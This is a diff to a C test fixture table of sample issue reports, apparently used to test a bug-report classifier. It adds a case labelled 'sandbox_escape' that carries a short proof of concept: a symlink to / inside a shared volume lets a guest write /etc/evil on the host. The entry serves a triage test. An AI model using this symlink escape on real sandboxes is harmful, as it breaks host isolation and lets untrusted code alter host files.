@@ -159,6 +159,10 @@ static const ClassCase class_cases[] = {
 	{ "Integer underflow in frame decoder",
 	  "In a release build without overflow checks the length wraps. Guest agentd sends the frame.",
 	  NULL, "core" },
+	{ "Guest can write host files",
+	  "PoC:\nfrom microsandbox import Sandbox\nsb = await Sandbox.create('x', volumes=['/tmp/s:/s'])\n"
+	  "await sb.exec('ln -s / /s/root && echo x > /s/root/etc/evil')\n"
+	  "The file /etc/evil appears on the host, outside the share.", "sandbox_escape", "core" },
 	{ "Question about the Python examples",
 	  "Running python3 app.py prints a traceback from /usr/lib/python3.12/asyncio/runners.py.",
 	  NULL, "core" },
